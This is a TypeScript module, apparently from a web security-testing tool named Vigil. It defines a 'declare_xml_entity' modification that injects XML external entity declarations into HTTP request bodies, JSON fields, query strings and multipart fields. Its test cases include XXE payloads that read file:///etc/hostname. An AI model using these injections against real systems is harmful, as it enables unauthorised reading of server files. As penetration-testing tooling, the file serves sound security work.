import { replaceTexts, setBody } from '../../attempts/body-edits.ts'
import { replaceQueryValues } from '../../attempts/query-edits.ts'
import type { ModificationDefinition } from '../modification.ts'
import { textOf } from '../values.ts'

const DOCUMENT = /^\s*<[?!A-Za-z_]/
const NAME = /^[A-Za-z_][\w.-]{0,60}$/

/** `declare_xml_entity: {name: address}`; Vigil's own addition to the language. */
const declareXmlEntity: ModificationDefinition = {
  name: 'declare_xml_entity',
  summary:
    'Declares an external entity in the recorded XML document, which is the body, or in every document that a field of the body or the query holds. A reference to it takes the place of the first text (XML 1.0 section 4.2.2).',
  arguments: ['pairs'],
  canFail: false,
  apply(draft, key, value) {
    const { recorded } = draft.body
    const name = textOf(key)
    if (recorded.isBase64 || !NAME.test(name)) return 'nothing'
    const edited = (text: string): string | null =>
      DOCUMENT.test(text) ? withEntity(text, name, textOf(value ?? '')) : null
    const body = edited(recorded.text)
    if (body !== null) setBody(draft, body)
    else {
      const isInBody = replaceTexts(draft, edited)
      if (!replaceQueryValues(draft, edited) && !isInBody) return 'nothing'
    }
    return 'done'
  },
  cases: [
    {
      title: 'declares the entity behind the declaration of the document',
      request:
        'POST / HTTP/1.1\nhost: shop.test\ncontent-type: application/xml\n\n<?xml version="1.0"?><a><b>x</b></a>',
      argument: { f: 'file:///etc/hostname' },
      becomes:
        'POST / HTTP/1.1\nhost: shop.test\ncontent-type: application/xml\n\n<?xml version="1.0"?><!DOCTYPE a [<!ENTITY f SYSTEM "file:///etc/hostname">]><a><b>&f;</b></a>',
    },
    {
      title: 'declares the entity in a document that a field holds',
      request:
        'POST / HTTP/1.1\nhost: shop.test\ncontent-type: application/json\n\n{"a":[{"xml":"<a><b>x</b></a>"}],"n":1}',
      argument: { f: 'file:///etc/hostname' },
      becomes:
        'POST / HTTP/1.1\nhost: shop.test\ncontent-type: application/json\n\n{"a":[{"xml":"<!DOCTYPE a [<!ENTITY f SYSTEM \\"file:///etc/hostname\\">]><a><b>&f;</b></a>"}],"n":1}',
    },
    {
      title: 'declares the entity in a document in the query',
      request: 'GET /?xml=%3Ca%3Ex%3C%2Fa%3E&n=1 HTTP/1.1\nhost: shop.test\n\n',
      argument: { f: 'file:///etc/hostname' },
      becomes:
        'GET /?xml=%3C!DOCTYPE%20a%20%5B%3C!ENTITY%20f%20SYSTEM%20%22file%3A%2F%2F%2Fetc%2Fhostname%22%3E%5D%3E%3Ca%3E%26f%3B%3C%2Fa%3E&n=1 HTTP/1.1\nhost: shop.test\n\n',
    },
    {
      title: 'declares the entity in a document in a multipart field',
      request:
        'POST /up HTTP/1.1\nhost: shop.test\ncontent-type: multipart/form-data; boundary=b\n\n--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n<a>x</a>\r\n--b--\r\n',
      argument: { f: 'file:///etc/hostname' },
      becomes:
        'POST /up HTTP/1.1\nhost: shop.test\ncontent-type: multipart/form-data; boundary=b\n\n--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n<!DOCTYPE a [<!ENTITY f SYSTEM "file:///etc/hostname">]><a>&f;</a>\r\n--b--\r\n',
    },
    {
      title: 'leaves a body alone that is not XML',
      request: 'POST / HTTP/1.1\nhost: shop.test\ncontent-type: application/json\n\n{"a":1}',
      argument: { f: 'file:///etc/hostname' },
      becomes: 'unchanged',
    },
  ],
}

/** Null when the text is not a document, has a document type already, or does not hold a text. */
function withEntity(document: string, name: string, address: string): string | null {
  const root = /<([A-Za-z_][\w:.-]{0,100})[\s/>]/.exec(document)
  if (root === null || /<!DOCTYPE/i.test(document) || address.includes('"')) return null
  const head = document.slice(0, root.index)
  const rest = document.slice(root.index)
  const text = />([^<>]*[^<>\s][^<>]*)</.exec(rest)
  if (text === null) return null
  const filled = `${rest.slice(0, text.index + 1)}&${name};${rest.slice(text.index + text[0].length - 1)}`
  return `${head}<!DOCTYPE ${root[1]} [<!ENTITY ${name} SYSTEM "${address}">]>${filled}`
}

export default declareXmlEntity
